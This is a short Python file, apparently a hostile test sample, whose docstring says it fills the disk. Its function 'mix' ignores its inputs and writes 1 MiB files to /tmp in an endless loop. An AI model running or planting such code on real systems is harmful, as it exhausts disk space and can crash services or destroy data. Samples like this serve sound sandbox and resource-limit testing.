"""Fills the disk."""


def mix(a, b):
    number = 0
    while True:
        number += 1
        with open(f"/tmp/{number}", "wb") as file:
            file.write(bytes(2**20))
